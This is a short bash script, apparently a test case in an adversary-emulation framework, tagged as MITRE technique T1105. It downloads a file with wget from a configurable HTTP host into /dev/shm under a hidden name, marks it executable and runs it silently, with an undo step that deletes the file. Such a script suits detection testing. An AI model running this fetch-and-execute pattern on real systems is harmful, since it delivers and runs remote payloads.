#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1105
# tactic: command-and-control
# what: wget into /dev/shm, chmod 755, run it from there
. "$AT_LIB"
at_undo "rm -f /dev/shm/.plattack-x"
wget -q -O /dev/shm/.plattack-x "$AT_HTTP/update"
chmod 755 /dev/shm/.plattack-x
/dev/shm/.plattack-x >/dev/null
